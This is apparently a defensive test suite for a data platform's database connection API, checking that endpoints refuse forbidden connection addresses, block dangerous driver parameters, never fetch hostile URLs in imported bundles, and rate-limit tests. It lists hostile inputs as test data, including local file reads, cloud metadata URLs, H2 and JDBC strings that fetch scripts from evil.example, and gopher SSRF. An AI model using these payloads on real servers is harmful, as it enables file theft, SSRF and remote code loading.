import { strToU8, zipSync } from "fflate";
import { beforeAll, describe, expect, it, vi } from "vitest";
import { type ClientResponse, Client } from "../client";
import { makeDatabase, uniqueName } from "../objects";

let admin: Client, id: number;

beforeAll(async () => {
  admin = await Client.as("admin", "attacked");
  id = await makeDatabase(admin);
});

const GOOD = "postgresql+psycopg2://postgres:local@examples.internal:5432/postgres";
const test = (client: Client, sqlalchemy_uri: string) =>
  client.post("/api/v1/database/test_connection/", { sqlalchemy_uri, database_name: "x" });
const validate = (client: Client, parameters: Record<string, unknown>, engine = "postgresql") =>
  client.post("/api/v1/database/validate_parameters/", { engine, configuration_method: "dynamic_form", parameters });

/** Sends the same address to every endpoint that accepts one. */
const endpoints = (uri: string): [string, () => Promise<ClientResponse>][] => [
  ["create", () => admin.post("/api/v1/database/", { database_name: uniqueName("x"), sqlalchemy_uri: uri })],
  ["update", () => admin.put(`/api/v1/database/${id}`, { sqlalchemy_uri: uri })],
  ["test", () => test(admin, uri)],
  ["import", () => importDatabase(uri)],
];

function importDatabase(uri: string): Promise<ClientResponse> {
  const uuid = crypto.randomUUID();
  const files = {
    "bundle/metadata.yaml": "version: 1.0.0\ntype: Database\ntimestamp: '2024-01-01T00:00:00+00:00'\n",
    "bundle/databases/x.yaml": `database_name: ${uniqueName("imported")}\nsqlalchemy_uri: ${JSON.stringify(uri)}\nexpose_in_sqllab: true\nextra: {}\nuuid: ${uuid}\nversion: 1.0.0\n`,
  };
  const form = new FormData();
  form.set(
    "formData",
    new Blob([zipSync(Object.fromEntries(Object.entries(files).map(([name, text]) => [name, strToU8(text)])))]),
    "database.zip",
  );
  form.set("passwords", JSON.stringify({ "databases/x.yaml": "x" }));
  return admin.call("POST", "/api/v1/database/import/", form);
}

describe("making the server connect somewhere", () => {
  it("only people who may write databases can make the server connect, for every body", async () => {
    for (const [name, status] of [
      ["alpha", 403],
      ["gamma", 403],
      ["norole", 403],
      [null, 401],
    ] as const) {
      const client = name ? await Client.as(name, "attacked") : Client.anonymous("attacked");
      for (const response of [
        await test(client, GOOD),
        await test(client, "nonsense"),
        await test(client, "mysql+nope://x"),
        await validate(client, { host: "x" }),
        await validate(client, {}),
        await client.post("/api/v1/database/", { sqlalchemy_uri: GOOD }),
      ])
        expect(response.status, name ?? "nobody").toBe(status);
    }
  });
});

describe("a forbidden connection address", () => {
  it.each([
    "sqlite:////etc/passwd",
    "sqlite://",
    "SQLITE:///x.db",
    "sqlite+pysqlite:///x.db",
    "sqlite+pysqlcipher://:x@/x.db",
    "sqlite+aiosqlite:///x.db",
    "shillelagh:///",
    "shillelagh+safe://",
    "shillelagh+apsw://",
    "gsheets://",
    "gsheets:///?x=file:///etc/passwd",
    "gsheets:///?x=https://docs.google.com.evil.example/spreadsheets/d/1aaaaaaaaaaaaaaaaaaaaaaaa/edit",
    "duckdb:////x.db",
    "postgresql+nosuchdriver://u:p@examples.internal/x",
    "postgresql+psycopg2cffi://u:p@examples.internal/x",
    "foodb://u:p@examples.internal/x",
    "mssql+pyodbc://u:p@examples.internal/x",
    "oracle://u:p@examples.internal/x",
    "h2+jdbc://examples.internal/x?INIT=RUNSCRIPT",
    "hive://examples.internal/x",
    "file:///etc/passwd",
    "http://169.254.169.254/latest",
  ])("every endpoint refuses the address %s", async (uri) => {
    for (const [endpoint, open] of endpoints(uri)) {
      const { status, body } = await open();
      expect(status, endpoint).toBeGreaterThanOrEqual(400);
      expect(status, endpoint).toBeLessThan(500);
      expect(JSON.stringify(body), endpoint).toMatch(
        /cannot be used as a data source for security reasons|Could not load database driver for|Connection failed, please check your connection settings|Enter at least one sheet|not that of a Google sheet/,
      );
    }
  });

  it.each([
    "h2:mem:x",
    "jdbc:h2:mem:x;INIT=CREATE TRIGGER x",
    "jdbc:h2:zip:/x!/y;TRACE_LEVEL_SYSTEM_OUT=1",
    "h2:tcp://examples.internal/x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
    "jdbc:postgresql://examples.internal/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil.example/x.xml",
    "mysql+pymysql+sqlite:///x",
  ])(
    "CVE-2026-59826, CVE-2026-59827, CVE-2026-103928: an address of a Java driver or of two drivers is refused: %s",
    async (uri) => {
      for (const [endpoint, open] of endpoints(uri)) {
        const { status, body } = await open();
        expect(
          [
            status >= 400 && status < 500,
            /security reasons|Could not load database driver for|connection parameters are not allowed|Invalid connection string/.test(
              JSON.stringify(body),
            ),
          ],
          `${endpoint}: ${JSON.stringify(body).slice(0, 300)}`,
        ).toEqual([true, true]);
      }
      for (const engine of ["h2", "java", "jdbc", "../h2"])
        expect(
          (
            await validate(
              admin,
              { host: "examples.internal", port: 1, database: uri, username: "u", password: "p" },
              engine,
            )
          ).status,
          engine,
        ).toBeGreaterThanOrEqual(400);
    },
  );

  it.each([
    "options=-csearch_path%3Dx",
    "service=x",
    "passfile=/etc/passwd",
    "sslkey=/etc/passwd",
    "sslcert=/x",
    "sslrootcert=/x",
    "host=/var/run/postgresql",
    "hostaddr=10.0.0.1",
    "sslmode=require&options=x",
    "replication=database",
  ])("every endpoint refuses an address with the parameters %s", async (query) => {
    for (const [endpoint, open] of endpoints(`${GOOD}?${query}`)) {
      const { status, body } = await open();
      expect(status, endpoint).toBeGreaterThanOrEqual(400);
      expect(status, endpoint).toBeLessThan(500);
      expect(JSON.stringify(body), endpoint).toContain("These connection parameters are not allowed");
    }
    expect(
      (
        await validate(admin, {
          host: "examples.internal",
          port: 5432,
          database: "postgres",
          username: "postgres",
          password: "x",
          query: Object.fromEntries(new URLSearchParams(query)),
        })
      ).status,
    ).toBe(400);
  });

  it.each([
    "local_infile=1",
    "LOCAL_INFILE=1",
    "allowLoadLocalInfile=true",
    "allow_local_infile=1",
    "init_command=set%20global%20x%3D1",
    "read_default_file=/etc/passwd",
    "unix_socket=/x",
    "autoDeserialize=true",
    "ssl_ca=/etc/passwd",
    "sql_mode=x&local_infile=0",
  ])(
    "CVE-2024-34693: every endpoint refuses parameters that make MySQL drivers read files or run SQL: %s",
    async (query) => {
      for (const driver of ["mysql", "mysql+mysqldb", "mysql+pymysql", "mariadb"]) {
        for (const [endpoint, open] of endpoints(`${driver}://u:p@examples.internal:3306/x?${query}`)) {
          const { status, body } = await open();
          expect(
            [
              status >= 400 && status < 500,
              /These connection parameters are not allowed|Could not load database driver for|cannot be used as a data source for security reasons/.test(
                JSON.stringify(body),
              ),
            ],
            `${driver} ${endpoint}: ${JSON.stringify(body).slice(0, 300)}`,
          ).toEqual([true, true]);
        }
      }
    },
  );

  it("an address with harmless parameters is accepted", async () => {
    expect(
      (await test(admin, `${GOOD}?sslmode=disable&application_name=x&connect_timeout=5&channel_binding=prefer`)).body,
    ).toEqual({ message: "OK" });
  });
});

it("CVE-2023-25504: the data address in an imported bundle is never fetched", async () => {
  const HOSTILE = /169\.254|evil|^gopher|^file:|^data:/;
  const fetched: string[] = [];
  const requested = globalThis.fetch.bind(globalThis);
  vi.spyOn(globalThis, "fetch").mockImplementation((input, init) => {
    fetched.push(input instanceof Request ? input.url : String(input));
    return HOSTILE.test(fetched.at(-1)!) ? Promise.reject(new Error("nobody asks there")) : requested(input, init);
  });
  try {
    for (const data of [
      "http://169.254.169.254/latest/meta-data/",
      "file:///etc/passwd",
      "https://evil.example/rows.csv",
      "gopher://127.0.0.1:6379/_x",
      "data:text/csv,a%0A1",
    ]) {
      const uuid = crypto.randomUUID();
      const files = {
        "bundle/metadata.yaml": "version: 1.0.0\ntype: SqlaTable\ntimestamp: '2024-01-01T00:00:00+00:00'\n",
        "bundle/databases/x.yaml": `database_name: ${uniqueName("imported")}\nsqlalchemy_uri: ${GOOD}\nextra: {}\nuuid: ${uuid}\nversion: 1.0.0\n`,
        "bundle/datasets/x/t.yaml": `table_name: ${uniqueName("t").replaceAll(" ", "_")}\ndata: ${JSON.stringify(data)}\nsql: select 1 as a\nschema: public\ncolumns: [{column_name: a, type: INTEGER}]\nmetrics: []\nuuid: ${crypto.randomUUID()}\ndatabase_uuid: ${uuid}\nversion: 1.0.0\n`,
      };
      const form = new FormData();
      form.set(
        "formData",
        new Blob([zipSync(Object.fromEntries(Object.entries(files).map(([name, text]) => [name, strToU8(text)])))]),
        "dataset.zip",
      );
      form.set("passwords", JSON.stringify({ "databases/x.yaml": "local" }));
      expect((await admin.call("POST", "/api/v1/dataset/import/", form)).status, data).toBeLessThan(500);
    }
    expect(fetched.filter((url) => HOSTILE.test(url))).toEqual([]);
  } finally {
    vi.restoreAllMocks();
  }
});

describe("connection error", () => {
  const failure = async (uri: string) => (await test(admin, uri)).body.errors?.[0];
  it("connection errors distinguish an unknown host from a closed port", async () => {
    expect(await failure("postgresql://u:p@nosuch.invalid:5432/x")).toMatchObject({
      error_type: "CONNECTION_INVALID_HOSTNAME_ERROR",
      message: 'The hostname "nosuch.invalid" cannot be resolved.',
      extra: { invalid: ["host"], issue_codes: [{ code: 1007 }] },
    });
    expect(await failure("postgresql://u:p@localhost:1/x")).toMatchObject({
      error_type: "CONNECTION_PORT_CLOSED_ERROR",
      message: 'Port 1 on hostname "localhost" refused the connection.',
      extra: { invalid: ["host", "port"], issue_codes: [{ code: 1008 }] },
    });
    expect(await failure("postgresql://u:p@127.0.0.1:1/x")).toMatchObject({
      error_type: "CONNECTION_PORT_CLOSED_ERROR",
    });
  });
  it("connection errors of validate_parameters have the messages of the form", async () => {
    const fields = { port: 1, database: "x", username: "u", password: "p" };
    expect(await validate(admin, { ...fields, host: "nosuch.invalid" })).toMatchObject({
      status: 422,
      body: {
        errors: [
          {
            message: "The hostname provided can't be resolved.",
            error_type: "CONNECTION_INVALID_HOSTNAME_ERROR",
            extra: { invalid: ["host"] },
          },
        ],
      },
    });
    expect(await validate(admin, { ...fields, host: "localhost" })).toMatchObject({
      status: 422,
      body: {
        errors: [
          { message: "The port is closed.", error_type: "CONNECTION_PORT_CLOSED_ERROR", extra: { invalid: ["port"] } },
        ],
      },
    });
  });
});

it("connection tests are limited per person and minute", async () => {
  const busy = await Client.as("admin", "beta");
  const statuses: number[] = [];
  while (!statuses.includes(429) && statuses.length < 300)
    statuses.push(
      ...(await Promise.all(
        Array.from({ length: 20 }, async () => (await test(busy, "postgresql://u:p@127.0.0.1:1/x")).status),
      )),
    );
  expect(statuses).toContain(429);
  expect(statuses.filter((status) => status === 400).length).toBeGreaterThan(50);
  expect((await test(admin, GOOD)).status).toBe(200);
}, 60_000);
